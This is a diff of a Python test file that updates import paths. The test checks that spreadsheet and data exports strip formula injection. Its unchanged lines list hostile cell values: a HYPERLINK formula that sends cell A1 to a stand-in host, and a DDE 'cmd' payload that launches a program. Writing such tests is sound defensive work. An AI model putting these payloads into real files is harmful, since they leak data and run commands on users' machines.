@@ -8,7 +8,7 @@ from pathlib import Path
 import openpyxl
 import pandas as pd
 
-from triangulate import exports
+from triangulate.core import exports
 
 ROOT = Path(__file__).resolve().parent.parent
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
@@ -34,7 +34,9 @@ def test_report_xlsx_and_data_needs_exports_hold_no_formula(demo_engine):
 
     from schemas import DataNeed, Insight
     from tests.conftest import actor
-    from triangulate import dataneeds, db, report
+    from triangulate.joint import dataneeds
+    from triangulate.core import db
+    from triangulate.joint import report
     with db.session_scope(demo_engine) as s:
         for insight in s.exec(select(Insight)):
             insight.text = '=HYPERLINK("http://x.example","' + insight.text[:20] + '")'
